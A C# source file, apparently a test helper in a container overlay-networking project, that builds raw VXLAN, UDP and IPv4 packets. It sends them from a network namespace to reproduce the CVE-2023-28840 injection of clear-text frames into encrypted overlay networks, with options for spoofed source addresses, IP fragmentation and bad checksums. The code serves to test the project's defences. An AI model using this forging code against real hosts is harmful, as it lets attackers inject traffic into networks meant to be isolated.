using System.Buffers.Binary;
using System.Net;
using SwarmNet.Linux;
using SwarmNet.Netlink.Route;
using SwarmNet.Overlay.Networks;

namespace SwarmNet.Overlay.Encryption;

/// <summary>A VXLAN packet in clear text that carries a datagram for an endpoint, from any host and in the name of any: what the attacks of CVE-2023-28840 send.</summary>
internal static unsafe class ForgedFrame
{
    /// <summary>Sends it from a namespace, where root may write any source address.</summary>
    /// <param name="from">The attacker's namespace.</param>
    /// <param name="source">The outer source: the attacker's own address, or another's.</param>
    /// <param name="vtep">The host under attack.</param>
    /// <param name="vni">The network.</param>
    /// <param name="endpoint">The endpoint on it.</param>
    /// <param name="port">Its UDP port.</param>
    /// <param name="fragmentBytes">Bytes of UDP header and payload in the first of two IPv4 fragments, a multiple of 8; 0 = one packet.</param>
    public static void Send(NetworkNamespace from, string source, string vtep, uint vni, string endpoint, ushort port, int fragmentBytes = 0)
    {
        byte[] datagram = Udp(50000, 4789, [0x08, 0, 0, 0, .. ClearTextRules.Key(vni), 0, .. Inner(IPAddress.Parse(endpoint), port)]);
        if (fragmentBytes == 0)
        {
            Send(from, vtep, Ip(source, vtep, datagram, 0));
            return;
        }

        Send(from, vtep, Ip(source, vtep, datagram[..fragmentBytes], 0x2000));
        Send(from, vtep, Ip(source, vtep, datagram[fragmentBytes..], (ushort)(fragmentBytes / 8)));
    }

    /// <summary>A plain datagram whose UDP checksum is wrong.</summary>
    public static void SendWithWrongChecksum(NetworkNamespace from, IPAddress source, IPAddress destination, ushort port)
    {
        byte[] datagram = Udp(50000, port, "spoilt"u8.ToArray());
        datagram[6] = 0x12; // 0 would mean none
        datagram[7] = 0x34;
        Send(from, destination.ToString(), Ip(source.ToString(), destination.ToString(), datagram, 0));
    }

    private static byte[] Inner(IPAddress endpoint, ushort port)
    {
        MacAddress mac = OverlayNetwork.MacOf(endpoint);
        byte[] frame = new byte[12];
        mac.WriteTo(frame);
        frame[6] = 0x02;
        return [.. frame, 0x08, 0x00, .. Ip("10.0.1.200", endpoint.ToString(), Udp(1, port, "forged"u8.ToArray()), 0)];
    }

    private static byte[] Udp(ushort source, ushort destination, byte[] payload)
    {
        byte[] datagram = [0, 0, 0, 0, 0, 0, 0, 0, .. payload];
        BinaryPrimitives.WriteUInt16BigEndian(datagram, source);
        BinaryPrimitives.WriteUInt16BigEndian(datagram.AsSpan(2), destination);
        BinaryPrimitives.WriteUInt16BigEndian(datagram.AsSpan(4), (ushort)datagram.Length);
        return datagram;
    }

    private static byte[] Ip(string source, string destination, byte[] payload, ushort fragment)
    {
        byte[] packet = [0x45, 0, 0, 0, 0x77, 0x77, 0, 0, 64, 17, 0, 0, .. IPAddress.Parse(source).GetAddressBytes(), .. IPAddress.Parse(destination).GetAddressBytes(), .. payload];
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), (ushort)packet.Length);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(6), fragment);
        uint sum = 0;
        for (int i = 0; i < 20; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(packet.AsSpan(i));
        }

        sum = (sum & 0xffff) + (sum >> 16);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(10), (ushort)~((sum & 0xffff) + (sum >> 16)));
        return packet;
    }

    private static void Send(NetworkNamespace from, string destination, byte[] packet)
    {
        using FileDescriptor socket = from.OpenSocket(Libc.AF_INET, Libc.SOCK_RAW, 255); // IPPROTO_RAW: the packet has its header
        byte[] address = [Libc.AF_INET, 0, 0, 0, .. IPAddress.Parse(destination).GetAddressBytes(), 0, 0, 0, 0, 0, 0, 0, 0];
        fixed (byte* data = packet)
        fixed (byte* to = address)
        {
            if (Libc.sendto(socket, data, (nuint)packet.Length, 0, to, 16) < 0)
            {
                LinuxException.ThrowLast("send forged packet");
            }
        }
    }
}
